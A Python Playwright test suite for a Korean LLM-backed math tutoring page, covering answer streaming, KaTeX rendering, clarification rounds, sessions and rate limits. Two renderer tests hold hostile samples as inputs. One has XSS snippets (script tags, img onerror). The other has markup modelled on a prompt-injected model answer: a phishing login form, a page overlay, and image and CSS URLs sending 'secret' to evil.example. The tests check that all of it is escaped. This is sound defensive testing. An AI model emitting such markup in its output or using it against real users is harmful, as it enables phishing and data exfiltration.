"""The MAICE page in a real Chromium against the real server, agent and fake upstream.

Async Playwright (see tests/counseling/test_page.py for why). ``maice_server`` runs the
agent in the web process on the embedded default and as a ``run_maice_agent`` worker on
Redis, so every test here covers both shapes; ``offline_server`` (embedded only) has no
LLM at all and the offline tutor answers.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import httpx2
import pytest
from django.contrib.auth.models import User

from conversations.aio import run_db
from conversations.models import Message, MessageStatus, Role
from conversations.services import token_issue
from conversations.testing.fake_openai import Behaviour, FakeOpenAI
from maice.models import MaiceQuestion, MaiceRequest
from tests.counseling.test_page import (  # noqa: F401 - fixture
    CHROMIUM,
    CHROMIUM_ARGS,
    PASSWORD,
    TIMEOUT_MS,
    chromium,
    csp_refusals,
)
from tests.maice.conftest import ANSWER_TEXT, CLARIFY, IMPROVE, classification, route_steps

try:
    from playwright.async_api import Page, async_playwright, expect
except ImportError:  # the chromium fixture skips (or fails under REQUIRE_BROWSER=1)
    async_playwright = None
    Page = Any

pytestmark = [pytest.mark.usefixtures("chromium"), pytest.mark.django_db(transaction=True)]

SLOW_ANSWER = ("이차함수 $y = ax^2 + bx + c$ 의 그래프는 꼭짓점과 축을 먼저 찾고 그립니다. " * 12).strip()


async def _browser_page() -> AsyncIterator[Page]:
    async with async_playwright() as playwright:
        browser = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        context = await browser.new_context(locale="ko-KR", viewport={"width": 1200, "height": 1200})
        page = await context.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.js_errors = errors  # type: ignore[attr-defined]
        refused = csp_refusals(page)
        yield page
        await browser.close()
    assert not refused, "the page's own policy refused something it loads"


@pytest.fixture
async def page(maice_server: str) -> AsyncIterator[Page]:
    """A fresh Chromium page; the server (and agent) start first, so they never inherit it.
    (The ``chromium`` fixture, used by every test here, skips first when there is none.)"""
    async for opened in _browser_page():
        yield opened


@pytest.fixture
async def offline_page(offline_server: str) -> AsyncIterator[Page]:
    async for opened in _browser_page():
        yield opened


async def _log_in(page: Page, base_url: str, username: str, make_user: Any) -> None:
    await run_db(make_user, username)
    await page.goto(f"{base_url}/maice/")
    assert "/accounts/login/" in page.url  # login required
    await page.fill("#id_username", username)
    await page.fill("#id_password", PASSWORD)
    await page.click("#login-submit")
    await page.wait_for_url(f"{base_url}/maice/")


async def _ask(page: Page, text: str, mode: str = "") -> None:
    await page.select_option("#mode", mode)
    await page.fill("#question", text)
    await page.click("#send")


async def _done(page: Page) -> None:
    await expect(page.locator("#status")).to_have_attribute("data-state", "done")


async def test_agent_mode_streams_markdown_and_math_then_the_summary(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page, tmp_path: Path
) -> None:
    route_steps(fake_llm)
    await _log_in(page, maice_server, "student", make_user)
    await expect(page.locator("#sessions")).to_contain_text("아직 대화가 없습니다")

    await _ask(page, "이차함수의 그래프를 그리는 방법을 알려주세요", "agent")
    await expect(page.locator(".msg.user .text")).to_have_text("이차함수의 그래프를 그리는 방법을 알려주세요")
    badge = page.locator(".classification")
    await expect(badge.locator(".badge.code")).to_have_text("K3 절차적 지식")
    await expect(badge.locator(".badge.quality")).to_have_text("답변 가능")
    await expect(badge).to_contain_text("#이차함수")
    await _done(page)

    answer = page.locator(".msg.assistant .answer")
    # Every formula became KaTeX: inline ones and the display one; no raw "$" is left in view.
    await expect(answer.locator(".katex-display")).to_have_count(1)
    await expect(answer.locator(".katex")).to_have_count(8)  # the 7 inline formulas and the display one
    visible = await answer.inner_text()
    assert "$" not in visible and "y=a(x−p)" in visible.replace(" ", "").replace("\n", "")
    # Markdown: the code span is code, and its "**" stayed literal.
    await expect(answer.locator("code")).to_have_text("y = a*(x-p)**2 + q")
    # The renderer's newlines between blocks are not shown as blank lines.
    assert await answer.evaluate("node => getComputedStyle(node).whiteSpace") == "normal"
    await expect(page.locator(".answer-meta")).to_contain_text("K3 절차적 지식")
    await expect(page.locator("[data-testid=summary]")).to_contain_text("이차함수 그래프를 표준형으로 그리는 방법 학습")

    # The session is listed with its title and summary, and the page knows it.
    item = page.locator(".session-item").first
    await expect(item).to_contain_text("이차함수 그래프")
    session_id = int(await page.locator("#app").get_attribute("data-session-id") or 0)
    question = await MaiceQuestion.objects.select_related("answer").aget(session_id=session_id)
    assert question.answer is not None and question.answer.status == MessageStatus.COMPLETE
    assert question.answer.content == ANSWER_TEXT

    screenshot = Path(os.environ.get("PAGE_SCREENSHOT_MAICE") or tmp_path / "maice_page.png")
    await page.screenshot(path=str(screenshot), full_page=True)
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_a_clarification_round_is_answered_inline(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    route_steps(fake_llm, classify=classification("K3", "needs_clarify"))
    fake_llm.route(CLARIFY, Behaviour(reply=json.dumps({"questions": ["어떤 이차함수의 그래프인가요?",
                                                                      "어느 부분이 어려운가요?"]}, ensure_ascii=False)))
    await _log_in(page, maice_server, "unsure", make_user)
    await _ask(page, "그래프 알려줘", "agent")

    card = page.locator(".clarification")
    await expect(page.locator("#status")).to_have_attribute("data-state", "clarifying")
    await expect(card.locator("li")).to_have_text(["어떤 이차함수의 그래프인가요?", "어느 부분이 어려운가요?"])
    await expect(page.locator(".badge.quality")).to_have_text("명료화 필요")
    await expect(page.locator("#send")).to_be_enabled()

    # The pending clarification survives a reload: reopened from the history, still answerable.
    await page.reload()
    await page.locator(".session-item").first.click()
    await expect(page.locator("#status")).to_have_attribute("data-state", "clarifying")
    await expect(card.locator("li")).to_have_text(["어떤 이차함수의 그래프인가요?", "어느 부분이 어려운가요?"])
    await card.locator("input").fill("y = x^2 - 4x + 3 같은 표준형 그래프요")
    await card.locator("button").click()
    await expect(card.locator(".clarify-answer")).to_have_text("내 답: y = x^2 - 4x + 3 같은 표준형 그래프요")
    await expect(page.locator(".improved")).to_contain_text("표준형 이차함수 그래프를 그리는 단계별 방법")
    await _done(page)
    await expect(page.locator(".msg.assistant .katex-display")).to_have_count(1)
    # One question, one turn: the clarification answer went to the same session.
    await expect(page.locator(".turn")).to_have_count(1)
    improve_requests = [r for r in fake_llm.requests if IMPROVE in json.dumps(r.body, ensure_ascii=False)]
    assert improve_requests and "표준형 그래프요" in json.dumps(improve_requests[-1].body, ensure_ascii=False)
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_a_clarification_answer_that_could_not_be_sent_can_be_sent_again(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    route_steps(fake_llm, classify=classification("K3", "needs_clarify"))
    await _log_in(page, maice_server, "offline-for-a-moment", make_user)
    await _ask(page, "그래프 알려줘", "agent")
    card = page.locator(".clarification")
    await expect(page.locator("#status")).to_have_attribute("data-state", "clarifying")

    async def unavailable(route: Any) -> None:
        body = {"error": {"code": "SERVICE_UNAVAILABLE", "message": "서비스에 일시적으로 연결할 수 없습니다."}}
        await route.fulfill(status=503, content_type="application/json", body=json.dumps(body, ensure_ascii=False))

    await page.route("**/api/maice/chat", unavailable)
    await card.locator("input").fill("y = x^2 - 4x + 3 이요")
    await card.locator("button").click()
    await expect(page.locator(".notice-line.error")).to_contain_text("서비스에 일시적으로 연결할 수 없습니다")
    # The form is back with what was typed, and the answer still belongs to this question.
    await expect(card.locator("input")).to_have_value("y = x^2 - 4x + 3 이요")
    await page.unroute("**/api/maice/chat")
    await card.locator("button").click()
    await expect(page.locator(".improved")).to_contain_text("표준형 이차함수 그래프를 그리는 단계별 방법")
    await _done(page)
    await expect(page.locator(".turn")).to_have_count(1)
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_freepass_answers_directly_and_can_be_stopped(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    route_steps(fake_llm, answer=Behaviour(reply=SLOW_ANSWER, chunk_size=5, delay=0.03))
    await _log_in(page, maice_server, "hasty", make_user)
    await _ask(page, "이차함수 그래프 그리는 법", "freepass")

    answer = page.locator(".msg.assistant .answer")
    await expect(page.locator("#status")).to_have_attribute("data-state", "streaming")
    await expect(answer.locator(".katex").first).to_be_visible()  # math renders while it streams
    await expect(page.locator(".classification")).to_have_count(0)  # freepass: no classification
    await expect(page.locator("#send")).to_be_disabled()
    await page.click("#stop")
    await expect(page.locator("#status")).to_have_attribute("data-state", "stopped")
    await expect(page.locator(".notice-line.stopped")).to_contain_text("답변을 중지했습니다")
    shown = await answer.inner_text()
    assert shown and len(shown) < len(SLOW_ANSWER)
    await expect(page.locator("#send")).to_be_enabled()

    session_id = int(await page.locator("#app").get_attribute("data-session-id") or 0)
    stored = await Message.objects.filter(session_id=session_id, role=Role.ASSISTANT).alast()
    assert stored is not None and stored.status == MessageStatus.INTERRUPTED
    assert stored.content and SLOW_ANSWER.startswith(stored.content)
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_the_page_follows_its_own_question_while_another_tab_asks(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    fake_llm.route("[다른 탭]", Behaviour(reply="다른 탭에서 물은 미분 질문의 답입니다."))  # (tried first)
    route_steps(fake_llm)
    await _log_in(page, maice_server, "two-tabs", make_user)
    user = await run_db(User.objects.get, username="two-tabs")
    raw = (await run_db(token_issue, user=user))[1]

    async def other_tab_asks_first(route: Any) -> None:
        # Between this page's POST and its stream, the same student asks in another tab.
        if route.request.method == "GET":
            async with httpx2.AsyncClient(timeout=20) as client:
                async with client.stream("POST", f"{maice_server}/api/maice/chat",
                                         headers={"Authorization": f"Bearer {raw}"},
                                         json={"question": "[다른 탭] 미분이 뭐예요", "mode": "freepass"}) as other:
                    assert "다른 탭에서" in (await other.aread()).decode()
        await route.continue_()

    await page.route(re.compile(r".*/api/maice/chat(/[0-9a-f]+/events)?$"), other_tab_asks_first)
    await _ask(page, "이차함수의 그래프를 그리는 방법을 알려주세요", "agent")
    await _done(page)
    answer = await page.locator(".msg.assistant .answer").inner_text()
    assert "다른 탭" not in answer and "꼭짓점" in answer
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_past_sessions_are_listed_and_reopened(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    route_steps(fake_llm)
    await _log_in(page, maice_server, "returning", make_user)
    await _ask(page, "이차함수의 그래프를 그리는 방법을 알려주세요", "agent")
    await _done(page)
    first_session = await page.locator("#app").get_attribute("data-session-id")

    await page.click("#new-session")
    await expect(page.locator("#session-label")).to_have_text("새 대화")
    await _ask(page, "이차함수 꼭짓점 공식", "freepass")
    await _done(page)
    await expect(page.locator(".session-item")).to_have_count(2)

    await page.reload()
    await page.locator(f".session-item[data-session-id='{first_session}']").click()
    await expect(page.locator("#app")).to_have_attribute("data-session-id", first_session or "")
    await expect(page.locator(".msg.user .text")).to_have_text(["이차함수의 그래프를 그리는 방법을 알려주세요"])
    await expect(page.locator(".classification .badge.code")).to_have_text("K3 절차적 지식")
    await expect(page.locator(".msg.assistant .katex-display")).to_have_count(1)
    await expect(page.locator("[data-testid=summary]")).to_contain_text("이차함수 그래프를 표준형으로")

    # A question asked now continues that session.
    await _ask(page, "그럼 꼭짓점은 어떻게 구해요?", "freepass")
    await _done(page)
    assert await MaiceQuestion.objects.filter(session_id=int(first_session or 0)).acount() == 2
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_an_upstream_failure_is_shown_and_the_next_question_works(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    fake_llm.route("실패하는 질문", Behaviour(fault="500"))
    route_steps(fake_llm)
    await _log_in(page, maice_server, "unlucky", make_user)
    await _ask(page, "실패하는 질문: 이차함수 그래프", "freepass")
    await expect(page.locator("#status")).to_have_attribute("data-state", "error")
    await expect(page.locator(".notice-line.error")).to_contain_text("다시 질문해 주세요")
    await _ask(page, "이차함수의 그래프를 그리는 방법을 알려주세요", "freepass")
    await _done(page)
    await expect(page.locator(".msg.assistant .katex-display")).to_have_count(1)
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_chunks_out_of_order_are_shown_in_order(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    """The seed's ChunkBuffer, as the page loads it: order by chunk_index, drop replays,
    and a timed-out gap still releases what arrived."""
    await _log_in(page, maice_server, "orderly", make_user)
    released = await page.evaluate("""async () => {
        const out = [];
        const buffer = new ChunkBuffer(200, 20, (chunks) => out.push(...chunks.map(c => c.content)));
        const add = (i) => { const r = buffer.addChunk({chunk_id: i + 1, chunk_index: i, content: `c${i}`});
                             if (r) out.push(...r.map(c => c.content)); };
        add(1); add(0); add(2); add(2); add(4);
        await new Promise(resolve => setTimeout(resolve, 400));
        add(5); add(3);
        return out;
    }""")
    assert released == ["c0", "c1", "c2", "c4", "c5"]


async def test_the_seeds_event_source_left_open_stops_after_the_last_event(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    """The seed's client as written (POST, then ``new EventSource(response.url)``, never
    closed): the browser reconnects after the server ends the stream, with the last id it
    saw, and must be told there is no more rather than wait into a timeout."""
    route_steps(fake_llm)
    await _log_in(page, maice_server, "seedclient", make_user)
    result = await page.evaluate("""async () => {
        const csrf = (document.cookie.match(/csrftoken=([^;]+)/) || [])[1];
        // The seed's startChat, literally: POST, then an EventSource on the response's URL
        // (GET /api/maice/chat, the latest request). The page's client reads by request id.
        const response = await fetch('/api/maice/chat', {
            method: 'POST', credentials: 'same-origin',
            headers: {'Content-Type': 'application/json', 'Accept': 'text/event-stream', 'X-CSRFToken': csrf},
            body: JSON.stringify({question: "이차함수의 그래프를 그리는 방법을 알려주세요", session_id: null, mode: 'agent'}),
        });
        const source = new EventSource(response.url);
        const client = new MaiceStreamingClient(null, csrf);
        client.requestId = response.headers.get('X-Request-Id');
        const seen = [];
        client.handleStreamEvents(source, {
            onAnswerChunk: () => seen.push("answer_chunk"),
            onSummaryComplete: () => seen.push("summary_complete"),
            onError: (data) => seen.push(`error:${data.error_code}`),
        });
        const started = Date.now();
        while (!seen.includes("summary_complete") && Date.now() - started < 20000) {
            await new Promise(resolve => setTimeout(resolve, 50));
        }
        // Chromium retries a closed stream after about 3 s.
        await new Promise(resolve => setTimeout(resolve, 6000));
        return {seen: [...new Set(seen)], readyState: source.readyState, requestId: client.requestId};
    }""")
    assert result["seen"] == ["answer_chunk", "summary_complete"]
    assert result["readyState"] == 2  # CLOSED: the 204 ended its reconnecting
    request = await MaiceRequest.objects.aget(request_id=result["requestId"])
    assert request.outcome == "summary_complete"


async def test_the_renderer_sanitises_and_keeps_code_literal(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    await _log_in(page, maice_server, "careful", make_user)
    html = await page.evaluate("""() => MaiceRender.toHtml(
        "**굵게** $a_1 + a_n$ `$not math$`<img src=x onerror=alert(1)><script>alert(2)</script> $$\\\\frac{1}{2}$$")""")
    assert "<strong>굵게</strong>" in html and 'class="katex"' in html and "katex-display" in html
    assert "<code>$not math$</code>" in html
    assert "<img" not in html and "<script" not in html  # (shown as text: see below)


async def test_the_renderer_shows_a_models_markup_as_text(
    fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page
) -> None:
    # A prompt-injected answer: a login form, a page-wide overlay, an image that would
    # send the conversation elsewhere as it loads.
    await _log_in(page, maice_server, "wary", make_user)
    html = await page.evaluate("""() => MaiceRender.toHtml([
        '<form action="https://evil.example/login"><input type="password" name="pw"><button>로그인</button></form>',
        '<div style="position:fixed;inset:0;z-index:9999">가림</div>',
        '![x](https://evil.example/p.png?d=secret) <span style="background:url(https://evil.example/c)">s</span>',
        '$\\\\overrightarrow{AB}$ $\\\\rule{500em}{500em}$',
    ].join("\\n\\n"))""")
    for markup in ("<form", "<input", "<button", "<div style", "<img", "<span style=\"background", "evil.example/p.png"):
        assert markup not in html
    assert "&lt;form action=" in html and "&lt;div style=" in html  # shown, not drawn
    assert 'class="katex"' in html and "<svg" in html  # KaTeX's own markup stays
    assert "width:500em" not in html and "width:20em" in html  # a size the model asks for is capped


@pytest.fixture
def one_question_a_minute(maice_settings: Any) -> None:
    maice_settings.MAICE_RATE = "1/m"  # before the server starts: it reads the setting


async def test_a_question_that_is_too_long_or_rate_limited_is_explained(
    one_question_a_minute: None, fake_llm: FakeOpenAI, maice_server: str, make_user: Any, page: Page, settings: Any
) -> None:
    route_steps(fake_llm)
    await _log_in(page, maice_server, "wordy", make_user)
    limit = settings.MAICE_QUESTION_MAX_CHARS
    await page.fill("#question", "가" * (limit + 10))
    await expect(page.locator("#question")).to_have_value("가" * limit)
    await expect(page.locator("#counter")).to_have_text(f"{limit} / {limit}")

    # The limit counts in fixed one-minute windows: of three questions asked within seconds,
    # at most two fall in different windows, so one of them is refused.
    status = page.locator("#status")
    for attempt in range(3):
        await _ask(page, f"이차함수의 그래프를 그리는 방법을 알려주세요 ({attempt + 1})", "freepass")
        await expect(status).to_have_attribute("data-state", re.compile("^(done|error)$"))
        if await status.get_attribute("data-state") == "error":
            break
    await expect(status).to_have_attribute("data-state", "error")
    notice = page.locator(".notice-line.error")
    await expect(notice).to_contain_text("요청이 너무 많습니다")
    await expect(notice).to_contain_text(re.compile(r"\d+초 후 다시 시도해 주세요"))
    await expect(page.locator("#send")).to_be_enabled()
    assert page.js_errors == []  # type: ignore[attr-defined]


async def test_the_offline_tutor_answers_through_the_page(
    offline_server: str, make_user: Any, offline_page: Page
) -> None:
    """No LLM configured: classification, a clarification round and a computed answer."""
    page = offline_page
    await _log_in(page, offline_server, "offline", make_user)
    await _ask(page, "y = x² − 4x + 3의 꼭짓점을 구해줘", "agent")
    # The page started loading Kiwi and SymPy in the server; a slow machine may still be at it.
    await expect(page.locator("#status")).to_have_attribute("data-state", "done", timeout=30_000)
    await expect(page.locator(".badge.code")).to_have_text("K3 절차적 지식")
    await expect(page.locator(".classification")).to_contain_text("#꼭짓점")
    answer = page.locator(".msg.assistant .answer")
    await expect(answer.locator("h2")).to_contain_text("이차함수의 꼭짓점")
    # The computed vertex, rendered by KaTeX (its MathML keeps the TeX it was given).
    formulas = await answer.locator(".katex annotation").all_text_contents()
    assert "(2,\\ -1)" in formulas and "x = 2" in formulas

    await page.click("#new-session")
    await _ask(page, "미분 알려줘", "agent")
    await expect(page.locator("#status")).to_have_attribute("data-state", "clarifying")
    await expect(page.locator(".clarification li").first).to_contain_text("접선의 방정식")
    await page.locator(".clarification input").fill("접선의 방정식 구하는 방법이요")
    await page.locator(".clarification button").click()
    await expect(page.locator(".improved")).to_contain_text("미분: 접선의 방정식 구하는 방법")
    await _done(page)
    await expect(page.locator(".msg.assistant .answer")).to_contain_text("접선")
    assert page.js_errors == []  # type: ignore[attr-defined]
